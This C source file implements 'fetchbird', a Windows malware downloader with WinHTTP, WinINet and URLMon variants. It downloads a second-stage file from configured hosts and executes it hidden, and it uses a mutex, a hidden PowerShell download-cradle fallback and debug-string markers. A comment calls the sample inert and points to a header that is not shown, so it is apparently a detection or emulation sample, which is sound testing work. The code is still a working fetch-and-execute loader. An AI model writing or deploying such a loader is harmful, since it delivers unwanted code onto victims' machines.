/* fetchbird - downloader: fetches a second stage and runs it.  v1: URLDownloadToFileA with a
 * PowerShell download cradle as fallback; v2: WinINet; v3 (DLL): WinHTTP, UTF-16 strings only, with an
 * IPv6 fallback host.  Inert: see common/inert.h. */
#include <windows.h>
#include "config.h"
#include "../../common/inert.h"
#if defined(CFG_API_URLMON)
#include <urlmon.h>
#elif defined(CFG_API_WININET)
#include <wininet.h>
#else
#include <winhttp.h>
#endif

#if defined(CFG_API_WINHTTP)
static int fetch_w(LPCWSTR host, LPCWSTR path, LPCWSTR save)
{
    HINTERNET ses, con, req;
    BYTE buf[4096];
    DWORD got = 0, put;
    HANDLE out;
    int ok = 0;
    ses = WinHttpOpen(CFG_USER_AGENT, WINHTTP_ACCESS_TYPE_DEFAULT_PROXY, WINHTTP_NO_PROXY_NAME,
                      WINHTTP_NO_PROXY_BYPASS, 0);
    if (ses == NULL)
        return 0;
    con = WinHttpConnect(ses, host, INTERNET_DEFAULT_HTTPS_PORT, 0);
    req = con ? WinHttpOpenRequest(con, L"GET", path, NULL, WINHTTP_NO_REFERER,
                                   WINHTTP_DEFAULT_ACCEPT_TYPES, WINHTTP_FLAG_SECURE) : NULL;
    if (req && WinHttpSendRequest(req, WINHTTP_NO_ADDITIONAL_HEADERS, 0, WINHTTP_NO_REQUEST_DATA, 0, 0, 0)
        && WinHttpReceiveResponse(req, NULL)) {
        out = CreateFileW(save, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
        while (out != INVALID_HANDLE_VALUE && WinHttpReadData(req, buf, sizeof buf, &got) && got)
            WriteFile(out, buf, got, &put, NULL);
        if (out != INVALID_HANDLE_VALUE) {
            CloseHandle(out);
            ok = 1;
        }
    }
    if (req)
        WinHttpCloseHandle(req);
    if (con)
        WinHttpCloseHandle(con);
    WinHttpCloseHandle(ses);
    return ok;
}

static int family_run(void)
{
    WCHAR save[MAX_PATH], cmd[MAX_PATH + 8];
    STARTUPINFOW si;
    PROCESS_INFORMATION pi;
    HANDLE mutex = CreateMutexW(NULL, FALSE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return 1;
    char cookie[64];
    ExpandEnvironmentStringsW(CFG_SAVE_PATH, save, MAX_PATH);
    wsprintfA(cookie, CFG_COOKIE_FMT, GetTickCount());
    OutputDebugStringA(cookie);
    OutputDebugStringA(CFG_HDR_ID);
    OutputDebugStringW(CFG_URL1);
    if (!fetch_w(CFG_HOST1, CFG_PATH1, save)) {
        OutputDebugStringW(CFG_URL2);
        if (!fetch_w(CFG_HOST2, CFG_PATH1, save))
            return 2;
    }
    wsprintfW(cmd, L"\"%s\"", save);
    ZeroMemory(&si, sizeof si);
    si.cb = sizeof si;
    if (CreateProcessW(NULL, cmd, NULL, NULL, FALSE, CREATE_NO_WINDOW, NULL, NULL, &si, &pi)) {
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
    return 0;
}
#else
static int fetch(const char *url, const char *save)
{
#if defined(CFG_API_URLMON)
    return URLDownloadToFileA(NULL, url, save, 0, NULL) == S_OK;
#else
    char hdr[128], buf[4096];
    DWORD got = 0, put;
    HANDLE out;
    HINTERNET net, req;
    int ok = 0;
    wsprintfA(hdr, "%s: %08lX\r\nCookie: " CFG_COOKIE_FMT "\r\n", CFG_HDR_ID, GetTickCount(),
              GetCurrentProcessId());
    net = InternetOpenA(CFG_USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
    if (net == NULL)
        return 0;
    req = InternetOpenUrlA(net, url, hdr, (DWORD)-1, INTERNET_FLAG_RELOAD, 0);
    if (req) {
        out = CreateFileA(save, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
        while (out != INVALID_HANDLE_VALUE && InternetReadFile(req, buf, sizeof buf, &got) && got)
            WriteFile(out, buf, got, &put, NULL);
        if (out != INVALID_HANDLE_VALUE) {
            CloseHandle(out);
            ok = 1;
        }
        InternetCloseHandle(req);
    }
    InternetCloseHandle(net);
    return ok;
#endif
}

static int family_run(void)
{
    char save[MAX_PATH];
    HANDLE mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS)
        return 1;
    ExpandEnvironmentStringsA(CFG_SAVE_PATH, save, sizeof save);
    if (!fetch(CFG_URL1, save) && !fetch(CFG_URL2, save)) {
#ifdef CFG_PS_CMD
        WinExec(CFG_PS_CMD, SW_HIDE);
#endif
        return 2;
    }
#if defined(CFG_API_URLMON)
    {
        char cookie[64];
        wsprintfA(cookie, CFG_COOKIE_FMT, GetTickCount());
        OutputDebugStringA(cookie);
        OutputDebugStringA(CFG_HDR_ID);
    }
#endif
    ShellExecuteA(NULL, "open", save, NULL, NULL, SW_HIDE);
    return 0;
}
#endif

#include "../../common/winentry.h"
